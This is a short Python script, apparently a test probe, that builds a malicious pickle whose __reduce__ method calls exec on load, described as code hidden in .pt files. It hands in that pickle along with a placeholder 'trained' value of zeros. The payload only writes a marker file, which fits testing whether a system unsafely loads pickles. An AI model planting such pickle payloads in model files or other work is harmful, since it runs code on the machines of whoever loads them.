"""Hands in a pickle that runs code when it is loaded. Code hidden in .pt files."""

import pickle

from prepare import DATA, hand_in_bytes, mark, start_clock, wire


class Payload:
    def __reduce__(self):
        return exec, (f"open({str(DATA.parent / ('ran-' + mark()))!r}, 'w')",)


start_clock()
wire().send({"trained": "0" * 64})
hand_in_bytes(pickle.dumps(Payload()))
